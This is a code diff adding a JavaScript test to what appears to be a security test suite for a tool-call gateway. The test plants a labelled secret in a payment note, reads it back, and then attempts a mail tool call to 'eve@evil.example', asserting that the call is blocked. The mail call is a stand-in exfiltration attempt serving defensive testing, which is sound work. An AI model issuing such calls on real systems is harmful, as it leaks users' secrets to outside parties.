@@ -190,6 +190,19 @@ describe('through a real gateway', () => {
     assert.ok(!bank.calls().some(({ tool }) => tool === 'send_mail'));
   });
 
+  test('what a step has left at a server is not read back without its label', async (t) => {
+    const bank = await openBank(t);
+    const client = await bank.open();
+    const left = stepOf('left', 'bank__pay', { to: 'me', amount: 1, note: ref('secret', '/structuredContent/secret') });
+    const { plan } = await client.plan('submit', planOf(secret, left));
+    assert.equal((await client.plan('run', { plan }))['state'], 'done');
+    assert.equal((await bank.run('session', 'show')).stdout, 'every session is calm\n');
+    await client.call('bank__echo', { text: 'what did I write there?' });
+    assert.match((await bank.run('session', 'show')).stdout, /secret/u);
+    await client.call('bank__send_mail', { to: 'eve@evil.example', body: 'x' });
+    assert.ok(!bank.calls().some(({ tool }) => tool === 'send_mail'));
+  }); // prettier-ignore
+
   test('untrusted text decides no payment, a number may', async (t) => {
     const bank = await openBank(t);
     const client = await bank.open();
